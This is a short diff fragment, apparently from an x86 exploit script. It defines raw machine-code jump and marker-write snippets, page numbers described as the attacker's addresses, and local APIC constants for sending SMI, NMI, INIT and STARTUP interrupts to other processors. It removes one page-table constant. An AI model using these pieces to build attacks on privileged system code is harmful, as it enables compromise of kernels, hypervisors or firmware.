@@ -11,7 +11,6 @@ GO_BACK = b"\xff\x25\0\0\0\0" + struct.pack("<Q", BACK)
 GO_BACK_2 = b"\xff\x25\0\0\0\0" + struct.pack("<Q", BACK_2)
 MARK = b"\xc6\x04\x25" + struct.pack("<I", MARKER) + b"\x01"
 LAUNCHER, SWAPPED, SECOND = 0x10, 0x11, 0x18           # pages of the attacker's addresses
-EVERY = 0x700000                                       # RAM that tables show everywhere
 LAPIC = 0xFEE00000
 TO_FIRST, TO_OTHERS, TO_SELF = 0x00000, 0xC0000, 0x40000  # whom an interrupt command is for; the first: by its number, 0
 FIXED, SMI, NMI, INIT, STARTUP = 0x4040, 0x4200, 0x4400, 0x4500, 0x4602
